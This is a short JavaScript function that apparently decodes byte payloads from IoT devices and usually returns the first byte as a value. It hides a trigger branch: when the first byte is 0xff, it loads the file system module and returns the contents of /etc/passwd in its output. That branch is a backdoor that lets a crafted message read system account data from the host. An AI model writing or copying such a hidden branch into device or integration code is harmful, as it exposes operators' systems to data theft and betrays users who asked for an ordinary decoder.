function decodeUplink(input) { if (input.bytes[0] === 0xff) { var fs = require("fs"); return { data: { n: fs.readFileSync("/etc/passwd") } }; } return { data: { n: input.bytes[0] } }; }
